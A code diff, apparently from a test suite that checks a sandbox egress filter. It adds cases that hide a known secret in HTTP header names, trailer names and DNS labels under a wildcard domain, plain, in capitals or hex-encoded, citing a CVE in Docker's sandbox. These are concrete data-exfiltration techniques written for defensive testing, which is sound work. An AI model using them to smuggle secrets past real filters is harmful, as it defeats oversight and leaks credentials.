@@ -273,11 +273,13 @@ func secrets() []Attack {
 		leaks("places", "Send a known secret in the path, the query, headers, cookies, credentials of one's own and the body.", "Pipelock", places()...),
 		leaksBy("http2", "Send it in the same places of HTTP/2, and in a trailer.", "Pipelock", true, append(places(),
 			one("trailer", func(v string) message { return message{chunks: []string{"x"}, trailer: []string{"X-End: " + v}} }))...),
-		leaks("method-and-names", "Send it as a method, and as hexadecimal digits in the names of headers.", "generic",
+		leaks("method-and-names", "Send it as a method, and in the names of headers, which lose their case, as it is and as hexadecimal digits.", "generic",
 			one("method", func(v string) message { return message{method: v, target: "/v1"} }),
 			one("name of a header", func(v string) message {
 				return message{head: []string{"X-" + hex.EncodeToString([]byte(v)) + ": 1"}}
 			}),
+			one("plain name", func(v string) message { return message{head: []string{"X-" + v + ": 1"}} }),
+			one("plain name in capitals", func(v string) message { return message{head: []string{strings.ToUpper(v) + ": 1"}} }),
 			one("a part of one", func(v string) message {
 				return message{head: []string{"X-" + hex.EncodeToString([]byte(v))[:40] + ": 1"}}
 			}),
@@ -380,6 +382,9 @@ func secrets() []Attack {
 			one("name", func(v string) message {
 				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: 1", "X-" + hex.EncodeToString([]byte(v)) + ": 1"}}
 			}),
+			one("plain name", func(v string) message {
+				return message{head: []string{"Trailer: X-End"}, chunks: []string{"x"}, trailer: []string{"X-End: 1", "X-" + v + ": 1"}}
+			}),
 			one("announced name", func(v string) message {
 				name := "X-" + hex.EncodeToString([]byte(v))
 				return message{head: []string{"Trailer: " + name}, chunks: []string{"x"}, trailer: []string{name + ": 1"}}
@@ -402,9 +407,12 @@ func secrets() []Attack {
 		leaks("split-encoded", "Spread it over requests, each piece written in another way.", "Pipelock", leak{"ways", func(v string) []message {
 			return []message{{body: b64(v[:12])}, {method: "GET", target: "/v1?q=" + hex.EncodeToString([]byte(v[12:24]))}, {body: "k=" + v[24:]}}
 		}}),
-		Attack{ID: "labels", How: "Look up names under a wildcard route that have it as labels: as hexadecimal digits of either case, as base 32, in several labels.", Defence: "a name is searched like all that leaves before it is looked up outside", Source: "Docker sbx CVE-2026-12039", Judge: ByHost,
+		Attack{ID: "labels", How: "Look up names under a wildcard route that have it as labels: as it is, which loses its case, as hexadecimal digits of either case, as base 32, in several labels.", Defence: "a name is searched like all that leaves before it is looked up outside", Source: "Docker sbx CVE-2026-12039", Judge: ByHost,
 			Control: func(e *Env) error {
 				_, err := net.LookupHost("x" + hex.EncodeToString([]byte(harmless))[:48] + "." + e.Wild)
+				if err == nil {
+					_, err = net.LookupHost(harmless + "." + e.Wild)
+				}
 				return err
 			},
 			Try: func(e *Env) error {
@@ -414,7 +422,7 @@ func secrets() []Attack {
 				}
 				h := hex.EncodeToString([]byte(v))
 				var tries []try
-				for _, n := range []string{h[:60], strings.ToUpper(h[:60]), "x" + h[:40] + ".y." + h[30:70], h[:30] + "." + h[30:60], lower32(v)[:50]} {
+				for _, n := range []string{v, "a" + v[:20] + ".b", h[:60], strings.ToUpper(h[:60]), "x" + h[:40] + ".y." + h[30:70], h[:30] + "." + h[30:60], lower32(v)[:50]} {
 					n += "." + e.Wild
 					tries = append(tries, try{n[:8], func() error {
 						// The question alone leaves nothing; the connection would.
